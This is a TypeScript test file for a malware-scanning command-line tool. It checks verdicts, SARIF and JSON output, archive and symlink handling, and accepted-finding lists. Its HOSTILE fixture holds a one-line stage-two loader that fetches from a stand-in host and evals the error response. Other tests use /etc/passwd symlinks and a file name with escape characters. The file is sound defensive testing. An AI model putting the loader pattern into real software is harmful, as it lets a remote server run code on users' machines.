import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFileSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import type { ScanResult } from '@haetae/detect/repository';
import { haetae, testFolder } from '../testing/command-line.ts';

const { path: dir, file } = testFolder();

function tree(name: string, files: Readonly<Record<string, string>>): string {
  for (const [path, content] of Object.entries(files)) file(join(name, path), content);
  return join(dir, name);
}

const scan = (...args: string[]) => haetae(['scan', ...args]);

async function scanned(...args: string[]): Promise<ScanResult & { readonly code: number }> {
  const { code, stdout } = await scan(...args, '--json');
  return { ...(JSON.parse(stdout) as ScanResult), code };
}

const HOSTILE = {
  'README.md': '# Test\n',
  'src/error.js':
    "const axios = require('axios');\naxios.get('https://stage-two.example').catch((e) => eval(e.response.data));\n",
};
const HONEST = { 'README.md': '# Test\n', 'index.js': 'export const a = 1;\n', 'package.json': '{"name":"a"}' };

test('a hostile folder in Korean: what to do and what was found, on the page and as JSON', async () => {
  const { code, stdout } = await scan(tree('korean', HOSTILE), '--lang', 'ko');
  assert.equal(code, 1);
  assert.match(stdout, /^차단 /);
  assert.match(stdout, /지금 할 일\n.*서버의 오류 응답을 프로그램으로 실행합니다\./s);
  const { findings } = await scanned(tree('korean', HOSTILE), '--lang', 'ko');
  assert.match(findings[0]?.advice ?? '', /마세요/);
});

test('a hostile folder: exit 1, the place and the technique are named', async () => {
  const { code, verdict, findings } = await scanned(tree('hostile', HOSTILE));
  assert.equal(code, 1);
  assert.equal(verdict, 'malicious');
  const [{ rule, level, file, line, technique } = { rule: '' }] = findings;
  assert.deepEqual(
    { rule, level, file, line, technique },
    { rule: 'error-answer-run', level: 'error', file: 'src/error.js', line: 2, technique: 'T1059.007' },
  );
});

test('an honest folder: exit 0, no finding, and the answer says that this is no proof', async () => {
  const folder = tree('honest', HONEST);
  assert.deepEqual(await scanned(folder).then(({ code, verdict, findings }) => [code, verdict, findings]), [
    0,
    'clean',
    [],
  ]);
  assert.match((await scan(folder)).stdout, /^NO FINDING[\s\S]*not a proof/);
});

test('an archive on standard input is scanned; what is none, and nothing at all, is refused in a sentence', async () => {
  const folder = tree('piped', HOSTILE);
  const archive = execFileSync('tar', ['-czf', '-', '-C', folder, '.']);
  const piped = await haetae(['scan', '-', '--json'], { input: archive });
  assert.equal(piped.code, 1);
  assert.equal((JSON.parse(piped.stdout) as ScanResult).findings[0]?.file, 'src/error.js');
  for (const input of ['no archive', '']) {
    const { code, stderr } = await haetae(['scan', '-'], { input });
    assert.equal(code, 2);
    assert.match(stderr, /tar or tgz/);
  }
});

test('a zip and a tgz of it are read without being unpacked', async () => {
  const folder = tree('packed', HOSTILE);
  execFileSync('tar', ['-czf', join(dir, 'p.tgz'), '-C', folder, '.']);
  const { code, findings } = await scanned(join(dir, 'p.tgz'));
  assert.equal(code, 1);
  assert.equal(findings[0]?.file, 'src/error.js');
});

test('the page for people says what to do first and shows no link', async () => {
  const { stdout } = await scan(tree('hostile', HOSTILE));
  assert.match(stdout, /^BLOCK/);
  assert.match(stdout, /take this computer off the network/);
  assert.doesNotMatch(stdout, /https:\/\//);
});

test('SARIF names rule, place and words', async () => {
  const out = join(dir, 'out.sarif');
  await scan(tree('hostile', HOSTILE), '--sarif', out);
  const { version, runs } = JSON.parse(readFileSync(out, 'utf8'));
  assert.equal(version, '2.1.0');
  const [{ ruleId, locations }] = runs[0].results;
  assert.equal(ruleId, 'error-answer-run');
  assert.equal(locations[0].physicalLocation.artifactLocation.uri, 'src/error.js');
  assert.equal(runs[0].tool.driver.rules[runs[0].results[0].ruleIndex].id, ruleId);
});

test('what is no folder or file: exit 2 and a sentence', async () => {
  symlinkSync('/etc/passwd', join(dir, 'a-link'));
  for (const path of [join(dir, 'absent'), join(dir, 'a-link')]) {
    const { code, stdout, stderr } = await scan(path, '--json');
    assert.equal(code, 2);
    assert.equal(stdout, '');
    assert.equal(JSON.parse(stderr).code, 'unreadable_path');
  }
});

test('links, pipes and a file of a gigabyte are named, not followed, opened or read through', async () => {
  const folder = tree('odd', HONEST);
  symlinkSync('/etc/passwd', join(folder, 'passwd'));
  symlinkSync('..', join(folder, 'up'));
  execFileSync('mkfifo', [join(folder, 'pipe')]);
  writeFileSync(join(folder, 'huge.js'), 'a');
  truncateSync(join(folder, 'huge.js'), 2 ** 30);
  const { code, unscanned } = await scanned(folder);
  assert.equal(code, 0);
  const reasons = Object.fromEntries(unscanned.map(({ file, reason }) => [file, reason]));
  assert.deepEqual(reasons, { 'huge.js': 'truncated', passwd: 'link', pipe: 'special', up: 'link' });
});

test('names with line ends and escapes reach no terminal', async () => {
  const folder = tree('names', { 'a\n\u001b[31m\u202egnp.js': HOSTILE['src/error.js'] });
  const { stdout } = await scan(folder);
  assert.doesNotMatch(stdout.replace(/\n/g, ''), /[\p{Cc}\p{Cf}]/u);
});

test('packages from a list and rules of one’s own are found, too', async () => {
  const folder = tree('given', {
    'package.json': '{"name":"a","dependencies":{"some-inert-name":"1.0.0"}}',
    'a.txt': 'inert-mark',
  });
  writeFileSync(join(dir, 'list.csv'), 'ecosystem,name,versions\nnpm,some-inert-name,\n');
  writeFileSync(join(dir, 'own.yar'), 'rule own_mark { strings: $a = "inert-mark" condition: $a }');
  const { findings } = await scanned(folder, '--packages', join(dir, 'list.csv'), '--yara', join(dir, 'own.yar'));
  assert.deepEqual(findings.map(({ rule }) => rule).sort(), ['known-bad-package', 'yara:own_mark']);
});

test('the answer names its edition and what was scanned: the same tree again is answered the same, a changed one is not', async () => {
  const input = async (files: Readonly<Record<string, string>>, name: string) => {
    const { rules, input: digest } = (await scanned(tree(name, files))) as Awaited<ReturnType<typeof scanned>> & {
      readonly input: string;
    };
    assert.match(rules, /\d/);
    assert.match(digest, /^sha256:[0-9a-f]{64}$/);
    return digest;
  };
  assert.equal(await input(HONEST, 'one'), await input(HONEST, 'same'));
  assert.notEqual(await input(HONEST, 'one'), await input({ ...HONEST, 'index.js': 'export const a = 2;\n' }, 'other'));
});

test('what somebody answers for is a note with the reason, until the file changes; without a reason nothing is accepted', async () => {
  const folder = tree('accepted', HOSTILE);
  const list = join(dir, 'accepted.yaml');
  await scan(folder, '--draft-accepted', list);
  const drafted = await scan(folder, '--accepted', list, '--json');
  assert.equal(drafted.code, 2);
  assert.match(drafted.stderr, /say who has looked at it/);
  writeFileSync(list, readFileSync(list, 'utf8').replaceAll('reason: ""', 'reason: Kim looked, a test of our own'));
  const sarif = join(dir, 'accepted.sarif');
  const { code, verdict, findings } = await scanned(folder, '--accepted', list, '--sarif', sarif);
  assert.deepEqual([code, verdict], [0, 'clean']);
  assert.ok(findings.length > 0);
  for (const { level, accepted } of findings)
    assert.deepEqual([level, accepted], ['note', 'Kim looked, a test of our own']);
  assert.match(readFileSync(sarif, 'utf8'), /"suppressions"/);
  file('accepted/src/error.js', `${HOSTILE['src/error.js']}// changed\n`);
  const again = await scan(folder, '--accepted', list);
  assert.equal(again.code, 1);
  assert.match(again.stdout, /no longer there as it was: src\/error\.js/);
});

test('a draft never takes the place of a file that exists', async () => {
  const kept = file('kept.yaml', 'accepted: []\n');
  const { code, stderr } = await scan(tree('hostile', HOSTILE), '--draft-accepted', kept);
  assert.equal(code, 2);
  assert.match(stderr, /there already/);
  assert.equal(readFileSync(kept, 'utf8'), 'accepted: []\n');
});
